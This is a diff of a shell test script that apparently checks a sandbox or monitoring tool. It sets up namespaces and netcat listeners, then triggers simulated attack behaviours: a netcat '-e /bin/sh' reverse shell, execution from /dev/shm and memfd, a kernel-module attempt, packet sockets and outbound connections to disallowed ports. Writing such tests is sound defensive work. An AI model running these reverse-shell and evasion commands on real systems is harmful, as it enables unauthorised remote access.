@@ -20,6 +20,7 @@ ip addr add 10.213.7.1/30 dev "${ns}a"; ip link set "${ns}a" up
 ip -n "$ns" addr add 10.213.7.2/30 dev "${ns}b"; ip -n "$ns" link set "${ns}b" up
 ip -n "$ns" link set lo up
 ip netns exec "$ns" timeout 60 busybox nc -ll -p 9999 -e /bin/true >/dev/null 2>&1 &
+ip netns exec "$ns" timeout 60 busybox nc -ll -p 3333 -e /bin/true >/dev/null 2>&1 &
 timeout 60 busybox nc -ll -p 13333 -e /bin/true >/dev/null 2>&1 &
 miner_listener=$!
 
@@ -47,9 +48,9 @@ x sh -c 'cp /bin/busybox /dev/shm/shmexe && /dev/shm/shmexe true'  # /dev/shm
 x bw_attack memfd-exec                             # memfd
 x bw_attack module                                 # kernel module (attempt)
 x mount -t tmpfs none /mnt                         # mount
-( echo 'exit' | timeout 5 busybox nc -l -p 14444 >/dev/null 2>&1 ) &
+( echo 'exit' | timeout 5 busybox nc -l -p 24555 >/dev/null 2>&1 ) &
 sleep 0.3
-x timeout 3 nc 127.0.0.1 14444 -e /bin/sh          # reverse shell + netcat -e
+x timeout 3 nc 127.0.0.1 24555 -e /bin/sh          # reverse shell + netcat -e
 x bw_attack packet                                 # packet socket
 x bw_attack connect 10.213.7.2 9999                # outbound non-allowed port
 x bw_attack connect 127.0.0.1 13333                # (loopback: not the port rule)
